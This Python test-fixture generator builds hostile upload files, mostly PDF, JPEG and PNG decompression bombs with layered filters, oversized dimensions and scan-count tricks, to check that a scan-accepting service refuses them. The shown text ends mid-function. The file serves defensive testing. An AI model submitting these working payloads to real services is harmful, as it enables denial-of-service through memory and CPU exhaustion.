# ruff: noqa: E501, ERA001, N806 - a set that was made by somebody who had not seen the code, kept as it came
"""Hostile (and odd but honest) upload files for a service that accepts scans.

    for h in files():        # lazy: one file in memory at a time
        h.name, h.data, h.verdict

verdict: 'refuse'  must not be taken
         'take'    odd but legitimate, must be taken (false-alarm check)
         'either'  may be taken or refused; must not crash, hang or eat memory

Generation is deterministic and nothing is ever decompressed here.  Unless a
case is about a broken container, the PDF page carries normal readable text, so
a refusal is caused by the attack and not by an empty page.
DOUBTFUL explains verdicts that are a matter of policy.
"""

from __future__ import annotations

import base64
import functools
import io
import random
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator


class Hostile(NamedTuple):
    name: str
    data: bytes
    verdict: str


_CASES: list[tuple[str, str, Callable[[], bytes]]] = []
DOUBTFUL: dict[str, str] = {}


def case(name: str, verdict: str, doubt: str = ""):
    assert verdict in ("refuse", "take", "either"), verdict

    def deco(fn):
        _CASES.append((name, verdict, fn))
        if doubt:
            DOUBTFUL[name] = doubt
        return fn

    return deco


def add(name: str, verdict: str, fn: Callable[[], bytes], doubt: str = "") -> None:
    case(name, verdict, doubt)(fn)


def files() -> Iterable[Hostile]:
    for name, verdict, fn in _CASES:
        yield Hostile(name, fn(), verdict)


# ------------------------------------------------------------- deflate tricks


def _adler_comb(a: int, b: int, len_b: int) -> int:
    M = 65521
    a1, a2, b1, b2 = a & 0xFFFF, a >> 16, b & 0xFFFF, b >> 16
    rem = len_b % M
    return (((a2 + b2 + rem * (a1 + M - 1)) % M) << 16) | ((a1 + b1 + M - 1) % M)


class Rep(NamedTuple):
    """pre + unit * n + suf, never materialised until bytes()."""

    pre: bytes
    unit: bytes
    n: int
    suf: bytes

    def __len__(self) -> int:  # may exceed ssize_t: use .size
        return self.size

    @property
    def size(self) -> int:
        return len(self.pre) + len(self.unit) * self.n + len(self.suf)

    def adler(self) -> int:
        acc = zlib.adler32(self.pre)
        p, plen, n = zlib.adler32(self.unit), len(self.unit), self.n
        while n:
            if n & 1:
                acc = _adler_comb(acc, p, plen)
            p, plen, n = _adler_comb(p, p, plen), plen * 2, n >> 1
        return _adler_comb(acc, zlib.adler32(self.suf), len(self.suf))

    def data(self) -> bytes:
        assert self.size < 8 << 20, self.size
        return self.pre + self.unit * self.n + self.suf


def _raw(data: bytes, mode: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(mode)


def deflate(r: Rep, group: int = 1 << 20) -> Rep:
    """zlib stream of r, as a Rep again: cost does not depend on r.n."""
    g = max(1, min(r.n, group // max(1, len(r.unit))))
    k, rest = divmod(r.n, g)
    pre = b"\x78\xda" + (_raw(r.pre, zlib.Z_FULL_FLUSH) if r.pre else b"")
    unit = _raw(r.unit * g, zlib.Z_FULL_FLUSH)
    suf = _raw(r.unit * rest + r.suf, zlib.Z_FINISH) + struct.pack(">I", r.adler())
    return Rep(pre, unit, k, suf)


def bomb(total: int, layers: int = 1, unit: bytes = b" ", pre: bytes = b"", suf: bytes = b"") -> bytes:
    big = unit * max(1, (1 << 20) // len(unit))
    r = Rep(pre, big, max(1, total // len(big)), suf)
    for _ in range(layers):
        r = deflate(r)
    return r.data()


def z(data: bytes) -> bytes:
    return zlib.compress(data, 9)


MB, GB, TB = 1 << 20, 1 << 30, 1 << 40


# ------------------------------------------------------------- LZW (PDF / TIFF)


class _Bits:
    def __init__(self):
        self.acc, self.n, self.out = 0, 0, bytearray()

    def put(self, v: int, w: int):
        self.acc = (self.acc << w) | v
        self.n += w
        while self.n >= 8:
            self.n -= 8
            self.out.append((self.acc >> self.n) & 255)
        self.acc &= (1 << self.n) - 1

    def end(self) -> bytes:
        if self.n:
            self.put(0, 8 - self.n)
        return bytes(self.out)


def lzw_encode(data: bytes) -> bytes:
    b = _Bits()
    w, nxt, tab = 9, 258, {}
    b.put(256, 9)
    cur: int | None = None
    for c in data:
        if cur is None:
            cur = c
        elif (cur, c) in tab:
            cur = tab[cur, c]
        else:
            b.put(cur, w)
            tab[cur, c] = nxt
            if nxt in (511, 1023, 2047):
                w += 1
            nxt += 1
            if nxt > 4090:
                b.put(256, w)
                w, nxt, tab = 9, 258, {}
            cur = c
    if cur is not None:
        b.put(cur, w)
        if nxt in (511, 1023, 2047):
            w += 1
    b.put(257, w)
    return b.end()


@functools.cache
def _lzw_unit() -> tuple[bytes, int]:
    """Byte-aligned LZW period that expands to ~7.3 MB of spaces, and that size."""
    b = _Bits()
    w, nxt, code, total, ln = 9, 258, 0x20, 0, 1
    while nxt <= 4090:
        b.put(code, w)
        total += ln
        if nxt in (511, 1023, 2047):
            w += 1
        code, nxt, ln = nxt, nxt + 1, ln + 1
    b.put(256, w)
    while b.n:
        b.put(256, 9)
    return b.end(), total


def lzw_bomb(total: int) -> Rep:
    unit, size = _lzw_unit()
    b = _Bits()
    for _ in range(8):
        b.put(256, 9)
    return Rep(b.end(), unit, max(1, total // size), b"\x80\x80")


# ------------------------------------------------------------- PDF writer


@functools.cache
def _font() -> tuple[bytes, list[int]]:
    from PIL import ImageFont

    f = ImageFont.load_default(1000)  # Aileron subset, CC0, inside Pillow
    widths = [round(f.getlength(chr(c))) for c in range(32, 127)]
    return f.font_bytes, widths


def stm(data: bytes, d: bytes = b"", filt: bytes = b"", length: bytes | None = None) -> bytes:
    """Stream object body; data is already encoded as filt says."""
    ln = str(len(data)).encode() if length is None else length
    f = b"/Filter " + filt if filt else b""
    return b"<< " + d + b" " + f + b" /Length " + ln + b" >>\nstream\n" + data + b"\nendstream"


FL = b"/FlateDecode"


def zs(data: bytes, d: bytes = b"") -> bytes:
    return stm(z(data), d, FL)


LINES = [
    "CONG HOA XA HOI CHU NGHIA VIET NAM",
    "Doc lap - Tu do - Hanh phuc",
    "",
    "TO KHAI DANG KY KHAI SINH",
    "",
    "Ho, chu dem, ten nguoi yeu cau: Nguyen Van An",
    "Noi cu tru: 12 duong Hung Vuong, phuong 1",
    "Giay to tuy than: 001090012345",
    "Quan he voi nguoi duoc khai sinh: cha",
    "Ho, chu dem, ten nguoi duoc khai sinh: Nguyen Thi Binh",
    "Ngay, thang, nam sinh: 12 thang 03 nam 2024",
    "Noi sinh: Benh vien da khoa tinh",
    "Gioi tinh: Nu   Dan toc: Kinh   Quoc tich: Viet Nam",
    "Toi cam doan noi dung de nghi dang ky khai sinh tren day la dung su that.",
]


def text_content(extra: str = "", scale: float = 1.0, mode: int = 0) -> bytes:
    out = [f"BT /F1 {13 * scale:g} Tf {22 * scale:g} TL {mode} Tr {60 * scale:g} {760 * scale:g} Td"]
    for ln in LINES + ([extra] if extra else []):
        s = ln.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
        out.append(f"({s}) Tj T*")
    out.append("ET")
    return "\n".join(out).encode()


def font_objs(first: int) -> list[bytes]:
    """Three objects: font (first), descriptor (first+1), file (first+2)."""
    data, widths = _font()
    return [
        b"<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Aileron-Regular /Encoding /WinAnsiEncoding "
        b"/FirstChar 32 /LastChar 126 /Widths [%s] /FontDescriptor %d 0 R >>"
        % (" ".join(map(str, widths)).encode(), first + 1),
        b"<< /Type /FontDescriptor /FontName /AAAAAA+Aileron-Regular /Flags 32 /FontBBox [-200 -250 1200 1000] "
        b"/ItalicAngle 0 /Ascent 970 /Descent -230 /CapHeight 700 /StemV 80 /FontFile2 %d 0 R >>" % (first + 2),
        zs(data, b"/Length1 %d" % len(data)),
    ]


ID = b"/ID [<00112233445566778899AABBCCDDEEFF> <00112233445566778899AABBCCDDEEFF>]"


def write_pdf(
    objs: dict[int, bytes],
    trailer: bytes = b"",
    root: bytes = b"1 0 R",
    ver: bytes = b"1.7",
    pre: bytes = b"",
    size: int | None = None,
    tail: bytes | None = None,
) -> bytes:
    out = bytearray(pre + b"%PDF-" + ver + b"\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out) - len(pre)  # offsets count from the header
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    top = max(objs) + 1
    x = len(out) - len(pre)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for n in range(1, top):
        out += b"%010d 00000 n \n" % offs[n] if n in offs else b"0000000000 00000 f \n"
    if tail is not None:
        return bytes(out) + tail.replace(b"@XREF@", b"%d" % x)
    out += b"trailer\n<< /Size %d /Root %s %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size or top, root, ID, trailer, x)
    return bytes(out)


A4 = b"[0 0 595 842]"


def page(
    attack: bytes | None = None,
    *,
    filt: bytes = b"",
    parms: bytes = b"",
    res: bytes = b"",
    xobj: bytes = b"",
    fonts: bytes = b"",
    box: bytes | None = A4,
    pg: bytes = b"",
    cat: bytes = b"",
    pages: bytes = b"",
    extra: dict[int, bytes] | list[bytes] = (),
    over: dict[int, bytes] | None = None,
    text: bool = True,
    **kw,
) -> bytes:
    """One-page PDF.  1 catalog, 2 pages, 3 page, 4 text, 5-7 font, 9 attack content, extras from 10."""
    o: dict[int, bytes] = {}
    o[1] = b"<< /Type /Catalog /Pages 2 0 R " + cat + b" >>"
    o[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 " + pages + b" >>"
    mb = b"/MediaBox " + box if box is not None else b""
    cont = b"[4 0 R 9 0 R]" if attack is not None else b"4 0 R"
    o[3] = (
        b"<< /Type /Page /Parent 2 0 R "
        + mb
        + b" /Contents "
        + cont
        + b" /Resources << /Font << /F1 5 0 R "
        + fonts
        + b" >> /XObject << "
        + xobj
        + b" >> "
        + res
        + b" >> "
        + pg
        + b" >>"
    )
    o[4] = zs(text_content() if text else b" ")
    for i, b in enumerate(font_objs(5)):
        o[5 + i] = b
    if attack is not None:
        o[9] = stm(attack, parms, filt)
    if isinstance(extra, dict):
        o.update(extra)
    else:
        o.update({10 + i: b for i, b in enumerate(extra)})
    o.update(over or {})
    return write_pdf(o, **kw)


def image_obj(
    data: bytes, w: int, h: int, filt: bytes, cs: bytes = b"/DeviceGray", bpc: int = 8, more: bytes = b""
) -> bytes:
    return stm(
        data,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace %s /BitsPerComponent %d %s"
        % (w, h, cs, bpc, more),
        filt,
    )


SHOW = b"q 300 0 0 200 100 100 cm /Im0 Do Q"


def image_page(
    data: bytes,
    w: int,
    h: int,
    filt: bytes,
    cs: bytes = b"/DeviceGray",
    bpc: int = 8,
    more: bytes = b"",
    extra: list[bytes] = (),
) -> bytes:
    return page(SHOW, xobj=b"/Im0 10 0 R", extra=[image_obj(data, w, h, filt, cs, bpc, more), *extra])


def form(content: bytes, res: bytes = b"", more: bytes = b"", filt: bytes = b"") -> bytes:
    return stm(
        content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << " + res + b" >> " + more, filt
    )


# ------------------------------------------------------------- rasters


@functools.cache
def _fontpx(size: int):
    from PIL import ImageFont

    return ImageFont.load_default(size)


def scan(w: int = 827, h: int = 1169, mode: str = "L"):
    from PIL import Image, ImageDraw

    im = Image.new(
        "RGB" if mode not in ("L", "1") else mode, (w, h), 1 if mode == "1" else 255 if mode == "L" else (250, 250, 246)
    )
    d = ImageDraw.Draw(im)
    size = max(8, min(w // 45, h // 30))
    ink = 0 if mode in ("L", "1") else (20, 20, 60)
    for i, ln in enumerate(LINES):
        d.text((w // 12, h // 14 + i * int(size * 1.9)), ln, fill=ink, font=_fontpx(size))
    if mode not in ("L", "1", "RGB"):
        im = im.convert(mode)
    return im


def save(im, fmt: str, **kw) -> bytes:
    b = io.BytesIO()
    im.save(b, fmt, **kw)
    return b.getvalue()


@functools.cache
def base_jpeg() -> bytes:
    return save(scan(), "JPEG", quality=55, dpi=(100, 100))


@functools.cache
def base_png() -> bytes:
    return save(scan(mode="L").quantize(8), "PNG", dpi=(100, 100))


@functools.cache
def base_pdf() -> bytes:
    return page()


# ------------------------------------------------------------- JPEG by hand


def seg(m: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, m, len(body) + 2) + body


DQT = seg(0xDB, b"\x00" + b"\x01" * 64)
DHT = seg(0xC4, b"\x00\x01" + bytes(15) + b"\x00") + seg(0xC4, b"\x10\x01" + bytes(15) + b"\x00")
JFIF = seg(0xE0, b"JFIF\0\1\1\1\0\xc8\0\xc8\0\0")


def sof(m: int, w: int, h: int, n: int = 1, prec: int = 8, samp: int = 0x11) -> bytes:
    return seg(
        m, struct.pack(">BHHB", prec, h, w, n) + b"".join(bytes((i + 1, samp if i == 0 else 0x11, 0)) for i in range(n))
    )


def sos(n: int = 1, ss: int = 0, se: int = 63, a: int = 0) -> bytes:
    return seg(0xDA, bytes((n,)) + b"".join(bytes((i + 1, 0)) for i in range(n)) + bytes((ss, se, a)))


def jpeg_flat(
    w: int, h: int, m: int = 0xC0, prec: int = 8, n: int = 1, cut: int | None = None, pre: bytes = b""
) -> bytes:
    """Flat grey JPEG, two zero bits per block (really complete unless cut)."""
    blocks = ((w + 7) // 8) * ((h + 7) // 8) * n
    body = bytes((blocks * 2 + 7) // 8) if cut is None else bytes(cut)
    return b"\xff\xd8" + JFIF + pre + DQT + sof(m, w, h, n, prec) + DHT + sos(n) + body + b"\xff\xd9"


def jpeg_scans(w: int, h: int, scans: int, dc: bool = False) -> bytes:
    blocks = ((w + 7) // 8) * ((h + 7) // 8)
    dht = seg(0xC4, b"\x00\x01" + bytes(15) + b"\x00") + seg(0xC4, b"\x10\x01" + bytes(15) + b"\xe0")
    first = sos(1, 0, 0) + bytes((blocks + 7) // 8)
    ac = sos(1, 1, 63) + bytes((-(-blocks // 16384) * 15 + 7) // 8)  # EOBRUN 16384 each
    return b"\xff\xd8" + JFIF + DQT + sof(0xC2, w, h) + dht + first + (first if dc else ac) * scans + b"\xff\xd9"


def with_seg(jpeg: bytes, *segs: bytes) -> bytes:
    return jpeg[:2] + b"".join(segs) + jpeg[2:]


def exif(ifd0: bytes, rest: bytes = b"") -> bytes:
    return seg(0xE1, b"Exif\0\0" + b"MM\0\x2a\0\0\0\x08" + ifd0 + rest)


def ent(tag: int, typ: int, cnt: int, val: int) -> bytes:
    return struct.pack(">HHII", tag, typ, cnt, val)


# ------------------------------------------------------------- PNG by hand

SIG = b"\x89PNG\r\n\x1a\n"


def chunk(t: bytes, d: bytes, crc: int | None = None) -> bytes:
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) if crc is None else crc)


def ihdr(w: int, h: int, depth: int = 8, color: int = 0, inter: int = 0, **kw) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, inter), **kw)


def png(
    w: int, h: int, idat: bytes, depth: int = 8, color: int = 0, inter: int = 0, pre: bytes = b"", post: bytes = b""
) -> bytes:
    return SIG + ihdr(w, h, depth, color, inter) + pre + chunk(b"IDAT", idat) + post + chunk(b"IEND", b"")


ADAM7 = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))


def png_raw_size(w: int, h: int, bpp: int, inter: int) -> int:
    if not inter:
        return h * (1 + (w * bpp + 7) // 8)
    t = 0
    for x, y, dx, dy in ADAM7:
        pw, ph = -(-(w - x) // dx), -(-(h - y) // dy)
        if pw > 0 and ph > 0:
            t += ph * (1 + (pw * bpp + 7) // 8)
    return t


def png_bomb(w: int, h: int, depth: int, color: int, inter: int = 0) -> bytes:
    """A complete, valid all-zero PNG of these dimensions."""
    bpp = depth * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color]
    raw = png_raw_size(w, h, bpp, inter)
    n, rest = divmod(raw, MB)
    return png(
        w,
        h,
        deflate(Rep(b"", bytes(MB), n, bytes(rest))).data(),
        depth,
        color,
        inter,
        pre=chunk(b"PLTE", b"\xff\xff\xff\0\0\0") if color == 3 else b"",
    )


def splice_png(*chunks: bytes, where: int = 33) -> bytes:
    p = base_png()
    return p[:where] + b"".join(chunks) + p[where:]


# ============================================================= decompression bombs


def _content_bomb(layers: int, total: int, unit: bytes = b" ") -> Callable[[], bytes]:
    return lambda: page(bomb(total, layers, unit), filt=b"[" + b" ".join([FL] * layers) + b"]")


add("bomb-content-flate1-300mb.pdf", "refuse", _content_bomb(1, 300 * MB))
add("bomb-content-flate1-2gb.pdf", "refuse", _content_bomb(1, 2 * GB))
add("bomb-content-flate2-4gb.pdf", "refuse", _content_bomb(2, 4 * GB))
add("bomb-content-flate2-ops-1gb.pdf", "refuse", _content_bomb(2, GB, b"0 0 m 9 9 l S\n"))
add("bomb-content-flate3-100gb.pdf", "refuse", _content_bomb(3, 100 * GB))
add("bomb-content-flate4-20tb.pdf", "refuse", _content_bomb(4, 20 * TB))
add(
    "bomb-content-flate2-comment-2gb.pdf",
    "refuse",
    lambda: page(bomb(2 * GB, 2, b"x", pre=b"%"), filt=b"[%s %s]" % (FL, FL)),
)
add(
    "bomb-content-flate2-string-2gb.pdf",
    "refuse",
    lambda: page(bomb(2 * GB, 2, b"A", pre=b"BT /F1 1 Tf (", suf=b") Tj ET"), filt=b"[%s %s]" % (FL, FL)),
)
add(
    "bomb-content-abbrev-filters-4gb.pdf",
    "refuse",
    lambda: page(bomb(4 * GB, 2), filt=b"[/Fl /Fl]"),
    "abbreviated filter names are only valid in inline images; refusing as malformed is equally right",
)
add("bomb-content-hexnames-4gb.pdf", "refuse", lambda: page(bomb(4 * GB, 2), filt=b"[/#46lateDecode /Flate#44ecode]"))
add(
    "bomb-content-ascii85-flate2.pdf",
    "refuse",
    lambda: page(base64.a85encode(bomb(4 * GB, 2)) + b"~>", filt=b"[/ASCII85Decode %s %s]" % (FL, FL)),
)
add(
    "bomb-content-asciihex-flate2.pdf",
    "refuse",
    lambda: page(bomb(4 * GB, 2).hex().encode() + b">", filt=b"[/ASCIIHexDecode %s %s]" % (FL, FL)),
)
add(
    "bomb-content-flate-asciihex-1gb.pdf",
    "refuse",
    lambda: page(bomb(2 * GB, 2, b"20", suf=b">"), filt=b"[%s %s /ASCIIHexDecode]" % (FL, FL)),
)
add(
    "bomb-content-flate-ascii85z-8gb.pdf",
    "refuse",
    lambda: page(bomb(2 * GB, 2, b"z", suf=b"~>"), filt=b"[%s %s /ASCII85Decode]" % (FL, FL)),
)
add("bomb-content-lzw-1gb.pdf", "refuse", lambda: page(lzw_bomb(GB).data(), filt=b"/LZWDecode"))
add(
    "bomb-content-flate-lzw-200gb.pdf",
    "refuse",
    lambda: page(deflate(lzw_bomb(200 * GB)).data(), filt=b"[%s /LZWDecode]" % FL),
)
add(
    "bomb-content-runlength-180mb.pdf",
    "refuse",
    lambda: page(b"\x81\x20" * 1_450_000 + b"\x80", filt=b"/RunLengthDecode"),
)
add(
    "bomb-content-flate2-runlength-250gb.pdf",
    "refuse",
    lambda: page(bomb(4 * GB, 2, b"\x81\x20", suf=b"\x80"), filt=b"[%s %s /RunLengthDecode]" % (FL, FL)),
)
add(
    "bomb-content-same-stream-1000x10mb.pdf",
    "refuse",
    lambda: page(
        bomb(10 * MB),
        filt=FL,
        over={
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ["
            b"4 0 R " + b"9 0 R " * 1000 + b"] /Resources << /Font << /F1 5 0 R >> >> >>"
        },
    ),
)


@case("bomb-100-pages-share-60mb-content.pdf", "refuse", "each page alone is 60 MB of spaces; total 6 GB of content")
def _():
    kids = b" ".join(b"%d 0 R" % (20 + i) for i in range(100))
    pg = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 9 0 R] "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    return page(
        bomb(60 * MB),
        filt=FL,
        extra={20 + i: pg for i in range(100)},
        over={2: b"<< /Type /Pages /Kids [" + kids + b"] /Count 100 >>", 3: b"null"},
    )


add(
    "bomb-filter-chain-30-flate-small.pdf",
    "either",
    lambda: page(functools.reduce(lambda d, _: z(d), range(30), b"q Q"), filt=b"[" + FL * 30 + b"]"),
)
add("bomb-filter-chain-20000-names.pdf", "refuse", lambda: page(b"q Q", filt=b"[" + b"/ASCIIHexDecode" * 20000 + b"]"))
add(
    "bomb-flate-predictor-huge-columns.pdf",
    "either",
    lambda: page(
        z(b"\2" + b"\1" * 100),
        filt=FL,
        parms=b"/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 255 /BitsPerComponent 16 >>",
    ),
)
add(
    "bomb-flate-predictor-negative.pdf",
    "either",
    lambda: page(
        z(b"\2" + b"\1" * 100),
        filt=FL,
        parms=b"/DecodeParms << /Predictor 12 /Columns -1 /Colors 0 /BitsPerComponent 7 >>",
    ),
)
add(
    "bomb-image-flate-longer-4gb.pdf",
    "refuse",
    lambda: image_page(bomb(4 * GB, 2, b"\0"), 100, 100, b"[%s %s]" % (FL, FL)),
)
add("bomb-image-flate1-longer-1gb.pdf", "refuse", lambda: image_page(bomb(GB, 1, b"\x55"), 1654, 2339, FL))
add("image-flate-a-little-long.pdf", "either", lambda: image_page(z(b"\x80" * 10001), 100, 100, FL))
add("image-flate-short.pdf", "either", lambda: image_page(z(b"\x80" * 500), 1654, 2339, FL))
add(
    "bomb-image-30000x30000-1bit.pdf",
    "refuse",
    lambda: image_page(bomb(3750 * 30000, 1, b"\0"), 30000, 30000, FL, bpc=1),
    "900-megapixel image object on an A4 page; limit may be read as being about the page only",
)
add(
    "bomb-image-100000x100000-rgb.pdf",
    "refuse",
    lambda: image_page(bomb(30 * GB, 3, b"\0"), 100000, 100000, b"[%s %s %s]" % (FL, FL, FL), b"/DeviceRGB"),
)
add("bomb-image-dims-2e9.pdf", "refuse", lambda: image_page(z(bytes(100)), 2147483647, 2147483647, FL))
add("image-dims-negative.pdf", "either", lambda: image_page(z(bytes(100)), -100, -100, FL))
add("image-dims-zero.pdf", "either", lambda: image_page(z(bytes(100)), 0, 0, FL))
add(
    "bomb-inline-image.pdf",
    "refuse",
    lambda: page(
        b"q 300 0 0 200 100 100 cm BI /W 60000 /H 60000 /BPC 8 /CS /G /F [/Fl /Fl] ID "
        + bomb(3 * GB, 2, b"\0")
        + b"\nEI Q"
    ),
)
add(
    "bomb-image-smask-30000.pdf",
    "refuse",
    lambda: image_page(
        z(b"\x80" * 10000),
        100,
        100,
        FL,
        more=b"/SMask 11 0 R",
        extra=[image_obj(bomb(900 * MB, 2, b"\0"), 30000, 30000, b"[%s %s]" % (FL, FL))],
    ),
)
add(
    "bomb-dct-177mp-declared-1654.pdf", "refuse", lambda: image_page(jpeg_flat(13312, 13312), 1654, 2339, b"/DCTDecode")
)
add(
    "bomb-flate-dct-177mp-declared-1654.pdf",
    "refuse",
    lambda: image_page(z(jpeg_flat(13312, 13312)), 1654, 2339, b"[%s /DCTDecode]" % FL),
)
add(
    "bomb-dct-177mp-truncated-declared-1654.pdf",
    "refuse",
    lambda: image_page(jpeg_flat(13312, 13312, cut=200), 1654, 2339, b"/DCTDecode"),
)
add(
    "bomb-dct-4gp-declared-1x1.pdf",
    "refuse",
    lambda: image_page(jpeg_flat(65500, 65500, n=3, cut=100), 1, 1, b"/DCTDecode", b"/DeviceRGB"),
)
add(
    "bomb-dct-two-sof-small-then-177mp.pdf",
    "refuse",
    lambda: image_page(
        jpeg_flat(1654, 2339, cut=0)[:-2].replace(DHT, b"", 1).split(b"\xff\xda")[0]
        + sof(0xC0, 13312, 13312)
        + DHT
        + sos()
        + bytes(692225)
        + b"\xff\xd9",
        1654,
        2339,
        b"/DCTDecode",
    ),
)
add(
    "bomb-dct-177mp-after-app-with-fake-sof.pdf",
    "refuse",
    lambda: image_page(
        jpeg_flat(13312, 13312, pre=seg(0xEC, sof(0xC0, 1654, 2339) + sos())), 1654, 2339, b"/DCTDecode"
    ),
)
add(
    "bomb-dct-progressive-3000-scans.pdf",
    "refuse",
    lambda: image_page(jpeg_scans(7000, 7000, 3000), 7000, 7000, b"/DCTDecode"),
    "49 MP with 3,000 scans: refusal or a time-out ends it; decoding to the end is not hidden content, only minutes of CPU",
)
add(
    "bomb-flate-dct-progressive-60000-scans.pdf",
    "refuse",
    lambda: image_page(
        bomb(99 * 20000, 1, jpeg_scans(7000, 7000, 1)[-101:-2], pre=jpeg_scans(7000, 7000, 1)[:-101], suf=b"\xff\xd9"),
        7000,
        7000,
        b"[%s /DCTDecode]" % FL,
    ),
)


@case(
    "bomb-page-with-200-images-40mp.pdf",
    "either",
    "8 gigapixels of image data on one A4 page; every image is under 60 MP",
)
def _():
    img = image_obj(z(jpeg_flat(6320, 6320)), 6320, 6320, b"[%s /DCTDecode]" % FL)
    return page(
        b"\n".join(b"q 20 0 0 20 %d %d cm /I%d Do Q" % (i % 20 * 25, i // 20 * 25, i) for i in range(200)),
        xobj=b" ".join(b"/I%d %d 0 R" % (i, 10 + i) for i in range(200)),
        extra=[img] * 200,
    )


@case("bomb-100-pages-share-50mp-image.pdf", "either", "within every single limit, 5 gigapixels in total")
def _():
    kids = b" ".join(b"%d 0 R" % (20 + i) for i in range(100))
    pg = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 9 0 R] "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im0 10 0 R >> >> >>"
    )
    ex = {20 + i: pg for i in range(100)}
    ex[10] = image_obj(bomb(7071 * 7071, 2, b"\xc0"), 7071, 7071, b"[%s %s]" % (FL, FL))
    return page(SHOW, extra=ex, over={2: b"<< /Type /Pages /Kids [" + kids + b"] /Count 100 >>", 3: b"null"})


add(
    "bomb-metadata-xmp-4gb.pdf",
    "refuse",
    lambda: page(
        cat=b"/Metadata 10 0 R", extra=[stm(bomb(4 * GB, 2), b"/Type /Metadata /Subtype /XML", b"[%s %s]" % (FL, FL))]
    ),
    "taking is harmless if the metadata stream is dropped undecoded",
)
add(
    "bomb-fontfile-2gb.pdf",
    "refuse",
    lambda: page(
        b"BT /F2 12 Tf 60 60 Td (A) Tj ET",
        fonts=b"/F2 10 0 R",
        extra=[
            b"<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 11 0 R /Encoding /WinAnsiEncoding >>",
            b"<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 12 0 R >>",
            stm(bomb(2 * GB, 2, b"\0"), b"/Length1 2147483647", b"[%s %s]" % (FL, FL)),
        ],
    ),
)
add(
    "bomb-tounicode-2gb.pdf",
    "refuse",
    lambda: page(
        b"BT /F2 12 Tf 60 60 Td (A) Tj ET",
        fonts=b"/F2 10 0 R",
        extra=[
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 11 0 R >>",
            stm(bomb(2 * GB, 2, b"1 beginbfrange <0000> <ffff> <0000> endbfrange\n"), b"", b"[%s %s]" % (FL, FL)),
        ],
    ),
    "taking is harmless if ToUnicode is never decoded (rasterised output)",
)
add(
    "bomb-icc-profile-1gb.pdf",
    "refuse",
    lambda: image_page(
        z(b"\x80" * 30000),
        100,
        100,
        FL,
        b"[/ICCBased 11 0 R]",
        extra=[stm(bomb(GB, 2, b"\0"), b"/N 3 /Alternate /DeviceRGB", b"[%s %s]" % (FL, FL))],
    ),
)
add(
    "bomb-indexed-lookup-1gb.pdf",
    "refuse",
    lambda: image_page(
        z(b"\x80" * 10000),
        100,
        100,
        FL,
        b"[/Indexed /DeviceRGB 255 11 0 R]",
        extra=[stm(bomb(GB, 2, b"\0"), b"", b"[%s %s]" % (FL, FL))],
    ),
)


def _objstm_pdf(
    objstm: bytes,
    xref_rows: list[tuple[int, int, int]],
    base: dict[int, bytes],
    xref_num: int,
    stm_num: int,
    xref_more: bytes = b"",
    w: bytes = b"[1 4 2]",
    rows: bytes | None = None,
) -> bytes:
    """base objects in the clear, object stream stm_num, xref stream xref_num (rows for the rest)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    table = {n: (t, a, b) for n, (t, a, b) in enumerate(xref_rows)}
    for n, body in sorted({**base, stm_num: objstm}.items()):
        table[n] = (1, len(out), 0)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    x = len(out)
    table[xref_num] = (1, x, 0)
    top = max(table) + 1
    if rows is None:
        rows = b"".join(struct.pack(">BIH", *table.get(n, (0, 0, 0))) for n in range(top))
    out += b"%d 0 obj\n" % xref_num + zs(
        rows, b"/Type /XRef /Size %d /W %s /Root 1 0 R %s %s" % (top, w, ID, xref_more)
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % x
    return bytes(out)


def _base_objs() -> dict[int, bytes]:
    o = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        4: zs(text_content()),
    }
    o.update({5 + i: b for i, b in enumerate(font_objs(5))})
    return o


@case("bomb-objstm-4gb.pdf", "refuse")
def _():
    base = _base_objs()
    cat = base.pop(1)
    hdr = b"1 0 "
    data = bomb(4 * GB, 2, pre=hdr + cat)
    s = stm(data, b"/Type /ObjStm /N 1 /First %d" % len(hdr), b"[%s %s]" % (FL, FL))
    return _objstm_pdf(s, [(0, 0, 65535), (2, 8, 0)], base, 9, 8)


@case("bomb-xref-stream-4gb.pdf", "refuse")
def _():
    o = _base_objs()
    out = bytearray(write_pdf(o).split(b"xref\n0 ")[0])
    x = len(out)
